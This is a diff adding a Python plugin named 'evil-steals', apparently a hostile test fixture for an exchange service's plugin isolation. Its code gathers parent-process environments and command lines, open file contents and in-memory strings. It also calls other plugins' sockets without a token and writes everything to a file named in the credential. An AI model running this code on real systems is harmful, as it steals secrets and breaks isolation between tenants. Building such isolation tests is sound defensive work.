@@ -1,0 +1,81 @@
+"""Gathers whatever it can read, and writes it into the file that its user's credential names."""
+
+import gc
+import glob
+import os
+import sys
+from pathlib import Path
+from typing import Any
+
+import grpc
+from evil_common import WELL, EvilPlugin
+
+from exchange_service.plugin_api import Balance, VenueCall
+
+SERVICE = "/exchange_service.plugin_host.v1.PluginHostService/"
+
+
+def _environments() -> list[str]:
+    """Its own, and those of the processes that it comes of."""
+    found, pid = [repr(dict(os.environ)), repr(sys.argv)], os.getpid()
+    while pid > 1:
+        for name in ("environ", "cmdline"):
+            try:
+                found.append(Path(f"/proc/{pid}/{name}").read_text(errors="replace"))
+            except OSError as error:
+                found.append(repr(error))
+        pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
+    return found
+
+
+def _descriptors() -> list[str]:
+    """What its open files are, and what can be read of them."""
+    found = []
+    for name in os.listdir("/proc/self/fd"):
+        try:
+            found.append(f"descriptor {name}: {os.readlink(f'/proc/self/fd/{name}')}")
+            found.append(os.pread(int(name), 1024 * 1024, 0).decode(errors="replace"))
+        except OSError as error:
+            found.append(repr(error))
+    return found
+
+
+def _objects() -> list[str]:
+    """Every text of its process, as far as it is reached from what the collector knows."""
+    found: dict[int, Any] = {}
+    for item in gc.get_objects():
+        for part in (item, *gc.get_referents(item)):
+            if isinstance(part, str | bytes) and len(part) < 10_000:
+                found[id(part)] = part
+    return [repr(part) for part in found.values()]
+
+
+def _others() -> list[str]:
+    """Where other plugins' processes listen."""
+    folders = {os.path.dirname(os.environ["HOME"]), "/tmp"}
+    there = {path for folder in folders for path in glob.glob(f"{folder}/exchange-service-plugin-*/socket")}
+    with open("/proc/net/unix") as file:
+        there |= {line.split()[7] for line in file if "exchange-service-plugin-" in line}
+    return sorted(there)
+
+
+async def _asked(path: str) -> str:
+    """What a process says to who has no token."""
+    async with grpc.aio.insecure_channel(f"unix:{path}") as channel:
+        try:
+            return repr(await channel.unary_unary(f"{SERVICE}FetchBalance")(b"", timeout=0.3))
+        except grpc.aio.AioRpcError as error:
+            return f"asked {path}: {error.code().name}"
+
+
+def _keep(file: Path, loot: list[str]) -> None:
+    file.write_text("\0".join(loot), errors="replace")
+
+
+async def steals(call: VenueCall) -> Balance:
+    loot = [*_environments(), *_descriptors(), *_objects(), *[await _asked(path) for path in _others()]]
+    _keep(Path(call.credential.metadata["loot"]), loot)
+    return WELL
+
+
+plugin = EvilPlugin("evil-steals", steals)
